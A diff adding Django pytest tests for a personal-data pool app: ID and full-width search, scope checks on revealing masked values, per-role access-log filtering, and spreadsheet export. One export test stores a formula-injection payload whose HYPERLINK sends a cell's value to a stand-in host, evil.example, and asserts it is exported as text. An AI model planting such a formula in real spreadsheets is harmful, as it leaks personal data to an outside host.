@@ -13,12 +13,15 @@ import re
 import openpyxl
 import pytest
 from django.contrib.auth.hashers import make_password
+from django.core.exceptions import PermissionDenied
 from django.db import transaction
 from django.test import Client, override_settings
 from django.urls import reverse
+from django.utils import timezone
 
 from cunxin.audit.models import AuditEvent
 from cunxin.datapool.sources import SOURCES
+from cunxin.org.models import Staff
 from cunxin.pool import actions, views
 from cunxin.pool.models import AccessLog, Person, RiskFlag, Segment
 from cunxin.project.templatetags.cunxin import SOURCE_LABELS, member_color, yuan
@@ -143,6 +146,42 @@ def test_it_searches_by_the_last_four_digits(as_user, world):
 
     assert found(response) == ["Pa12"]
     assert response.context["matched"] == "tail"
+
+
+def test_it_finds_an_18_digit_id_by_its_legacy_15_digit_form(as_user, world):
+    id18 = world.plain["a12"][0]
+    id15 = id18[:6] + id18[8:17]  # no century, no check character
+
+    response = as_user("hq_admin").post(village_url("VA1"), {"q": id15, "show": "persons"})
+
+    assert len(id15) == 15
+    assert found(response) == ["Pa12"]
+    assert response.context["matched"] == "id"
+
+
+def full_width(text: str) -> str:
+    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)
+
+
+@pytest.mark.parametrize(("plain", "how"), [(0, "id"), (1, "phone")])
+def test_it_reads_full_width_digits_as_ascii(as_user, world, plain, how):
+    value = world.plain["a12"][plain]
+    q = full_width(value)
+    assert q != value
+
+    response = as_user("hq_admin").post(village_url("VA1"), {"q": f"　{q}　", "show": "persons"})
+
+    assert found(response) == ["Pa12"]
+    assert response.context["matched"] == how
+
+
+def test_it_reads_full_width_masked_values_and_tails(as_user, world):
+    client = as_user("hq_admin")
+    masked = client.post(village_url("VA1"), {"q": full_width(world.persons["a11"].phone_masked), "show": "persons"})  # fmt: skip
+    tail = client.post(village_url("VA1"), {"q": full_width("0012"), "show": "persons"})
+
+    assert (found(masked), masked.context["matched"]) == (["Pa11"], "masked")
+    assert (found(tail), tail.context["matched"]) == (["Pa12"], "tail")
 
 
 @pytest.mark.parametrize("field", ["id_masked", "phone_masked"])
@@ -355,6 +394,31 @@ def test_it_reveals_the_full_value_and_logs_it_once(as_user, world, field, plain
     assert log.reason.endswith("上门核实")
 
 
+@pytest.mark.parametrize(("key", "person"), [("cm_a", "a31"), ("cm_a", "b11"), ("bm_b", "a11")])
+def test_the_reveal_action_refuses_a_person_outside_the_actors_scope(world, db, key, person):
+    # what a view answers with 404, the action refuses on its own (an API, a script)
+    with pytest.raises(PermissionDenied):
+        actions.do_reveal(world.users[key], world.persons[person], "phone", "visit")
+
+    assert not AccessLog.objects.exists()
+
+
+def test_the_reveal_action_refuses_a_retired_person(world, db):
+    person = world.persons["a11"]
+    Person.objects.filter(pk=person.pk).update(retired_at=timezone.now())
+
+    with pytest.raises(PermissionDenied):
+        actions.do_reveal(world.users["hq_admin"], person, "phone", "visit")
+    assert not AccessLog.objects.exists()
+
+
+def test_the_reveal_action_reveals_within_scope(world, db):
+    value = actions.do_reveal(world.users["cm_a"], world.persons["a21"], "phone", "visit")  # GA2
+
+    assert value == world.plain["a21"][1]
+    assert AccessLog.objects.get().person_id == "Pa21"
+
+
 def test_it_forbids_the_analyst_to_reveal(as_user, world):
     response = as_user("hq_analyst").post(reveal_url("Pa11", "phone"), {"reason": "visit"})
 
@@ -504,6 +568,22 @@ def test_it_exports_the_segment_masked_within_scope_and_logs_it(as_user, world, 
     assert log.detail == f"segment={everyone_segment.pk} rows=3"
 
 
+def test_it_exports_text_that_looks_like_a_formula_or_a_link_as_text(as_user, world):
+    formula = '=HYPERLINK("http://evil.example/?d="&C1,"点击查看")'
+    link = "http://x.cn/"  # relation_to_head holds 16 characters
+    Person.objects.filter(uid="Pb11").update(name=formula, relation_to_head=link)
+    segment = Segment.objects.create(name="黑", colors=["black"], created_by=world.users["hq_admin"])  # fmt: skip
+
+    response = as_user("hq_admin").get(reverse("pool:segment_export", args=[segment.pk]))
+
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
+    header = [c.value for c in sheet[1]]
+    name = sheet.cell(row=2, column=header.index("姓名") + 1)
+    relation = sheet.cell(row=2, column=header.index("与户主关系") + 1)
+    assert (name.value, name.data_type) == (formula, "s")  # a string, not a formula ("f")
+    assert (relation.value, relation.data_type, relation.hyperlink) == (link, "s", None)
+
+
 def test_the_access_log_tells_what_was_exported_and_revealed(as_user, world, everyone_segment):
     client = as_user("cm_a")
     client.get(reverse("pool:segment_export", args=[everyone_segment.pk]))
@@ -520,10 +600,48 @@ def test_the_access_log_tells_what_was_exported_and_revealed(as_user, world, eve
     assert f"已删除的分群 #{pk}：3 条记录" in html
 
 
-def test_it_reads_the_detail_of_older_export_rows():
+def test_it_reads_the_detail_of_export_rows():
     assert actions.export_detail("segment=7 rows=12") == {"segment": 7, "rows": 12}
-    assert actions.export_detail("segment 7 青年: 灰名单: 12 rows") == {"segment": 7, "rows": 12}
+    assert actions.export_detail("segment 7 青年: 12 rows") is None  # no release wrote it
     assert actions.export_detail("something else") is None
+
+
+def log_rows(world) -> None:
+    """A reveal by cm_a (branch A), cm_b (branch B) and hq_admin (no branch)."""
+    for key, person in (("cm_a", "a11"), ("cm_b", "b11"), ("hq_admin", "a31")):
+        AccessLog.objects.create(
+            user=world.users[key], kind=AccessLog.Kind.REVEAL, person=world.persons[person],
+            field="phone", reason="visit",
+        )  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("key", "expected"),
+    [
+        ("hq_admin", {"cm_a", "cm_b", "hq_admin"}),
+        ("hq_analyst", {"cm_a", "cm_b", "hq_admin"}),
+        ("bm_a", {"cm_a"}),
+        ("bm_b", {"cm_b"}),
+        ("cm_a", {"cm_a"}),
+        ("cm_b", {"cm_b"}),
+    ],
+)
+def test_the_access_log_shows_each_role_what_its_scope_allows(as_user, world, key, expected):
+    log_rows(world)
+
+    response = as_user(key).get(reverse("pool:access_log"))
+
+    assert {row.user.username for row in response.context["page"].object_list} == expected
+
+
+def test_a_branch_manager_without_a_branch_sees_no_access_log_rows(as_user, world):
+    log_rows(world)
+    Staff.objects.filter(user=world.users["bm_a"]).update(branch=None)
+
+    response = as_user("bm_a").get(reverse("pool:access_log"))
+
+    # not the rows of every user without a branch (HQ's): branch_id=None is IS NULL
+    assert list(response.context["page"].object_list) == []
 
 
 @pytest.mark.parametrize(
